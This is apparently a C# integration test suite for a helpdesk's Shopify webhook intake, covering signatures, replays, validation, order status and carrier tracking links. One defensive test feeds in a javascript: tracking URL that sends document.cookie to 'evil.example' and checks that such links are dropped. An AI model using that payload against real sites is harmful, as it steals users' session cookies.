using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Helpdesk.Tests.Infrastructure;

namespace Helpdesk.Tests.Features.Orders;

public sealed class ShopifyWebhookTests : IAsyncLifetime
{
    private const string Secret = "shpss_0123456789abcdef0123";
    private readonly HelpdeskApp _app = new();
    private Agent _admin = null!;
    private long _channel;

    public async Task InitializeAsync()
    {
        _admin = await _app.SignInAsync();
        var response = await _admin.Http.PostAsJsonAsync("/api/channels", new { kind = "shopify", name = "Shopify", secret = Secret });
        _channel = (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt64();
    }

    public async Task DisposeAsync()
    {
        await _admin.DisposeAsync();
        await _app.DisposeAsync();
    }

    private async Task<HttpResponseMessage> SendAsync(string topic, string body, string? webhookId = null, string? signature = null, long? channel = null) =>
        await _admin.Http.SendAsync(ShopifyOrderBuilder.Request(channel ?? _channel, Secret, topic, body, webhookId, signature));

    private async Task<JsonElement?> CustomerByEmailAsync(string email)
    {
        var found = await _admin.Http.GetFromJsonAsync<JsonElement[]>($"/api/customers?query={Uri.EscapeDataString(email)}");
        return found!.Length == 0 ? null : await _admin.Http.GetFromJsonAsync<JsonElement>($"/api/customers/{found[0].GetProperty("id").GetInt64()}");
    }

    [Fact]
    public async Task A_signed_order_webhook_records_the_order_and_its_customer()
    {
        var order = new ShopifyOrderBuilder().Customer(207119551, "Mette.Kristensen@Example.com", phone: "20 12 34 56");
        Assert.Equal(HttpStatusCode.OK, (await SendAsync("orders/create", order.Json)).StatusCode);

        var customer = (await CustomerByEmailAsync("mette.kristensen@example.com"))!.Value;
        Assert.Equal("Mette Kristensen", customer.GetProperty("name").GetString());
        Assert.Equal("first-time", customer.GetProperty("tier").GetString());
        Assert.Equal(1, customer.GetProperty("orderCount").GetInt32());
        Assert.Equal(129.95m, customer.GetProperty("lifetimeValue").GetDecimal());
        var identities = customer.GetProperty("identities").EnumerateArray()
            .Select(i => (i.GetProperty("kind").GetString(), i.GetProperty("value").GetString())).ToList();
        Assert.Contains(("email", "mette.kristensen@example.com"), identities);
        Assert.Contains(("store-customer-id", "207119551"), identities);
        Assert.Contains(("phone", "+4520123456"), identities);
        var stored = Assert.Single(customer.GetProperty("orders").EnumerateArray());
        Assert.Equal("paid", stored.GetProperty("status").GetString());
        Assert.Equal("Fjell 45L backpack - Blue", stored.GetProperty("lines")[0].GetProperty("name").GetString());
    }

    [Fact]
    public async Task A_replayed_webhook_changes_nothing()
    {
        var order = new ShopifyOrderBuilder().Customer(1001, "replay@example.com");
        var webhookId = Guid.NewGuid().ToString();
        await SendAsync("orders/create", order.Json, webhookId);
        var replay = await SendAsync("orders/create", order.Total("999.00").Json, webhookId);

        Assert.Equal(HttpStatusCode.OK, replay.StatusCode);
        var customer = (await CustomerByEmailAsync("replay@example.com"))!.Value;
        Assert.Equal(129.95m, customer.GetProperty("lifetimeValue").GetDecimal());
    }

    [Fact]
    public async Task Forged_or_unsigned_webhooks_are_refused_and_nothing_is_stored()
    {
        var order = new ShopifyOrderBuilder().Customer(1002, "forged@example.com");
        var forged = await SendAsync("orders/create", order.Json, signature: Convert.ToBase64String(new byte[32]));
        Assert.Equal(HttpStatusCode.Unauthorized, forged.StatusCode);
        var garbage = await SendAsync("orders/create", order.Json, signature: "not base64!");
        Assert.Equal(HttpStatusCode.Unauthorized, garbage.StatusCode);
        Assert.Null(await CustomerByEmailAsync("forged@example.com"));

        var unknownChannel = await SendAsync("orders/create", order.Json, channel: 999_999);
        Assert.Equal(HttpStatusCode.NotFound, unknownChannel.StatusCode);
    }

    [Theory]
    [InlineData("{\"id\": 1, \"total_price\": ", "total_price")]
    [InlineData("<order><id>1</id></order>", "body")]
    [InlineData("{\"id\": \"abc\"}", "id")]
    public async Task Malformed_json_is_refused_and_nothing_is_stored(string body, string field)
    {
        var response = await SendAsync("orders/create", body);
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        var problem = await response.Content.ReadFromJsonAsync<JsonElement>();
        Assert.True(problem.GetProperty("errors").TryGetProperty(field, out _), problem.ToString());
    }

    [Fact]
    public async Task Negative_totals_and_unknown_currencies_are_refused()
    {
        var negative = await SendAsync("orders/create", new ShopifyOrderBuilder().Customer(1003, "neg@example.com").Total("-5.00").Json);
        var problem = await negative.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(HttpStatusCode.BadRequest, negative.StatusCode);
        Assert.True(problem.GetProperty("errors").TryGetProperty("total_price", out _));

        var currency = await SendAsync("orders/create", new ShopifyOrderBuilder().Customer(1004, "cur@example.com").With("currency", "EURO").Json);
        Assert.Equal(HttpStatusCode.BadRequest, currency.StatusCode);
        Assert.True((await currency.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("errors").TryGetProperty("currency", out _));
        Assert.Null(await CustomerByEmailAsync("neg@example.com"));
        Assert.Null(await CustomerByEmailAsync("cur@example.com"));
    }

    [Fact]
    public async Task Unknown_topics_are_acknowledged_and_ignored()
    {
        var response = await SendAsync("products/update", "{\"id\": 632910392, \"title\": \"Fjell 45L backpack\"}");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
    }

    [Fact]
    public async Task A_guest_checkout_is_tied_to_the_customer_with_that_email()
    {
        await SendAsync("orders/create", new ShopifyOrderBuilder().Customer(1005, "anna@example.com", "Anna", "Hoffmann").Json);
        await SendAsync("orders/create", new ShopifyOrderBuilder().Guest("ANNA@example.com").Json);

        var customer = (await CustomerByEmailAsync("anna@example.com"))!.Value;
        Assert.Equal(2, customer.GetProperty("orderCount").GetInt32());
        Assert.Equal("returning", customer.GetProperty("tier").GetString());
    }

    [Fact]
    public async Task Cancellations_and_refunds_leave_the_history_and_delivery_is_recorded()
    {
        var kept = new ShopifyOrderBuilder().Customer(1006, "felix@example.com", "Felix", "Krüger");
        var cancelled = new ShopifyOrderBuilder().Customer(1006, "felix@example.com", "Felix", "Krüger");
        var refunded = new ShopifyOrderBuilder().Customer(1006, "felix@example.com", "Felix", "Krüger");
        foreach (var o in new[] { kept, cancelled, refunded }) await SendAsync("orders/create", o.Json);
        Assert.Equal(3, (await CustomerByEmailAsync("felix@example.com"))!.Value.GetProperty("orderCount").GetInt32());

        await SendAsync("orders/cancelled", cancelled.Cancelled().Json);
        await SendAsync("orders/updated", refunded.With("financial_status", "refunded").Json);
        await SendAsync("fulfillments/update", kept.Fulfillment("delivered"));
        // An older order update arriving late does not undo the delivery.
        await SendAsync("orders/updated", kept.With("fulfillment_status", "fulfilled").Json);

        var customer = (await CustomerByEmailAsync("felix@example.com"))!.Value;
        Assert.Equal(1, customer.GetProperty("orderCount").GetInt32());
        Assert.Equal("first-time", customer.GetProperty("tier").GetString());
        var statuses = customer.GetProperty("orders").EnumerateArray()
            .ToDictionary(o => o.GetProperty("externalId").GetString()!, o => o.GetProperty("status").GetString());
        Assert.Equal("delivered", statuses[kept.Id.ToString()]);
        Assert.Equal("cancelled", statuses[cancelled.Id.ToString()]);
        Assert.Equal("refunded", statuses[refunded.Id.ToString()]);
    }

    [Fact]
    public async Task An_order_with_a_delivered_fulfillment_is_delivered()
    {
        await SendAsync("orders/fulfilled", new ShopifyOrderBuilder().Customer(1007, "del@example.com").DeliveredFulfillment().Json);
        var order = (await CustomerByEmailAsync("del@example.com"))!.Value.GetProperty("orders")[0];
        Assert.Equal("delivered", order.GetProperty("status").GetString());
        Assert.Equal(new DateTime(2026, 11, 23, 13, 30, 0, DateTimeKind.Utc), order.GetProperty("deliveredAt").GetDateTime().ToUniversalTime());
    }

    [Fact]
    public async Task A_shipment_for_an_order_not_seen_yet_is_refused_until_the_order_arrives()
    {
        var order = new ShopifyOrderBuilder().Customer(1008, "early@example.com");
        var early = await SendAsync("fulfillments/create", order.Fulfillment("delivered"));
        Assert.Equal(HttpStatusCode.Conflict, early.StatusCode);

        await SendAsync("orders/create", order.Json);
        Assert.Equal(HttpStatusCode.OK, (await SendAsync("fulfillments/create", order.Fulfillment("delivered"))).StatusCode);
        var stored = (await CustomerByEmailAsync("early@example.com"))!.Value.GetProperty("orders")[0];
        Assert.Equal("delivered", stored.GetProperty("status").GetString());
    }

    [Fact]
    public async Task An_unpaid_order_is_not_history_however_far_it_has_shipped()
    {
        await SendAsync("orders/fulfilled", new ShopifyOrderBuilder().Customer(1009, "cod@example.com")
            .With("financial_status", "pending").DeliveredFulfillment().Json);
        var customer = (await CustomerByEmailAsync("cod@example.com"))!.Value;
        Assert.Equal(0, customer.GetProperty("orderCount").GetInt32());
        Assert.Equal("pending", customer.GetProperty("orders")[0].GetProperty("status").GetString());
    }

    [Fact]
    public async Task An_older_update_arriving_late_does_not_overwrite_a_newer_one()
    {
        var order = new ShopifyOrderBuilder().Customer(1010, "late@example.com");
        await SendAsync("orders/updated", order.With("updated_at", "2026-11-22T10:00:00+01:00").Total("200.00").Json);
        await SendAsync("orders/updated", order.With("updated_at", "2026-11-21T10:00:00+01:00").Total("50.00").Json);
        Assert.Equal(200m, (await CustomerByEmailAsync("late@example.com"))!.Value.GetProperty("lifetimeValue").GetDecimal());
    }
}

public sealed class ShopifyTrackingTests : IAsyncLifetime
{
    private const string Secret = "shpss_0123456789abcdef0456";
    private const string PostNord = "https://tracking.postnord.com/dk/?id=";
    private readonly HelpdeskApp _app = new();
    private Agent _admin = null!;
    private long _channel;

    public async Task InitializeAsync()
    {
        _admin = await _app.SignInAsync();
        var response = await _admin.Http.PostAsJsonAsync("/api/channels", new { kind = "shopify", name = "Shopify", secret = Secret });
        _channel = (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt64();
    }

    public async Task DisposeAsync()
    {
        await _admin.DisposeAsync();
        await _app.DisposeAsync();
    }

    private async Task SendAsync(string topic, string body, string? webhookId = null) =>
        Assert.Equal(HttpStatusCode.OK, (await _admin.Http.SendAsync(ShopifyOrderBuilder.Request(_channel, Secret, topic, body, webhookId))).StatusCode);

    /// <summary>The tracking agents see on the customer's only order, as (company, number, url).</summary>
    private async Task<List<(string?, string?, string?)>> TrackingAsync(string email)
    {
        var found = await _admin.Http.GetFromJsonAsync<JsonElement[]>($"/api/customers?query={Uri.EscapeDataString(email)}");
        var customer = await _admin.Http.GetStringAsync($"/api/customers/{found![0].GetProperty("id").GetInt64()}");
        Assert.DoesNotContain("javascript", customer, StringComparison.OrdinalIgnoreCase);
        var order = Assert.Single(ShopifyOrderBuilder.Parse(customer).GetProperty("orders").EnumerateArray());
        return order.GetProperty("tracking").EnumerateArray()
            .Select(t => (t.GetProperty("company").GetString(), t.GetProperty("number").GetString(), t.GetProperty("url").GetString())).ToList();
    }

    [Fact]
    public async Task An_order_shows_agents_the_tracking_of_its_shipped_fulfillments()
    {
        var order = new ShopifyOrderBuilder().Customer(2001, "track@example.com");
        await SendAsync("orders/fulfilled", order.Shipped(
            order.Shipment(1, "PostNord", ["00370712345678901234", "00370712345678905678"], [PostNord + "00370712345678901234", PostNord + "00370712345678905678"]),
            order.Shipment(2, "GLS", ["GLS-CANCELLED"], ["https://gls-group.com/track/GLS-CANCELLED"], status: "cancelled"),
            order.Shipment(3, "DHL", ["JD014600006281230704"], [])).Json);

        Assert.Equal(
        [
            ("PostNord", "00370712345678901234", PostNord + "00370712345678901234"),
            ("PostNord", "00370712345678905678", PostNord + "00370712345678905678"),
            ("DHL", "JD014600006281230704", null),
        ], await TrackingAsync("track@example.com"));
    }

    [Fact]
    public async Task A_fulfillment_webhook_adds_its_tracking_an_update_replaces_it_and_a_replay_changes_nothing()
    {
        var order = new ShopifyOrderBuilder().Customer(2002, "ship@example.com");
        await SendAsync("orders/create", order.Json);
        Assert.Empty(await TrackingAsync("ship@example.com"));

        var created = Guid.NewGuid().ToString();
        await SendAsync("fulfillments/create", order.Shipment(11, "PostNord", ["111"], ["https://postnord.example/old/111"]).ToJsonString(), created);
        await SendAsync("fulfillments/create", order.Shipment(12, "GLS", ["222"], ["https://gls-group.com/track/222"]).ToJsonString());
        await SendAsync("fulfillments/update", order.Shipment(11, "PostNord", ["111"], [PostNord + "111"]).ToJsonString());
        await SendAsync("fulfillments/create", order.Shipment(11, "PostNord", ["111"], ["https://postnord.example/old/111"]).ToJsonString(), created);

        Assert.Equal([("PostNord", "111", PostNord + "111"), ("GLS", "222", "https://gls-group.com/track/222")],
            await TrackingAsync("ship@example.com"));

        await SendAsync("fulfillments/update", order.Shipment(12, "GLS", ["222"], [], status: "cancelled").ToJsonString());
        Assert.Equal([("PostNord", "111", PostNord + "111")], await TrackingAsync("ship@example.com"));
    }

    [Fact]
    public async Task An_older_copy_of_the_order_does_not_erase_the_tracking_a_fulfillment_brought()
    {
        var order = new ShopifyOrderBuilder().Customer(2003, "race@example.com");
        await SendAsync("orders/create", order.With("financial_status", "pending").Json);
        await SendAsync("fulfillments/create", order.Shipment(21, "DHL", ["JD0146"], ["https://www.dhl.com/dk-en/home/tracking.html?tracking-id=JD0146"]).ToJsonString());
        // orders/paid was sent before the shipment but arrives after it, still without fulfillments.
        await SendAsync("orders/paid", order.With("financial_status", "paid").With("updated_at", "2026-11-20T11:00:00+01:00").Json);

        Assert.Equal([("DHL", "JD0146", "https://www.dhl.com/dk-en/home/tracking.html?tracking-id=JD0146")], await TrackingAsync("race@example.com"));
    }

    [Fact]
    public async Task A_javascript_tracking_link_from_Shopify_is_never_stored()
    {
        var order = new ShopifyOrderBuilder().Customer(2004, "xss@example.com");
        await SendAsync("orders/fulfilled", order.Shipped(
            order.Shipment(31, "PostNord", ["333"], ["javascript:fetch('//evil.example/'+document.cookie)"])).Json);
        await SendAsync("fulfillments/create", order.Shipment(32, "GLS", ["444"], ["JAVASCRIPT:alert(1)"]).ToJsonString());
        await SendAsync("fulfillments/create", order.Shipment(33, "Evil", [], ["javascript:alert(2)"]).ToJsonString());

        Assert.Equal([("PostNord", "333", null), ("GLS", "444", null)], await TrackingAsync("xss@example.com"));
    }
}
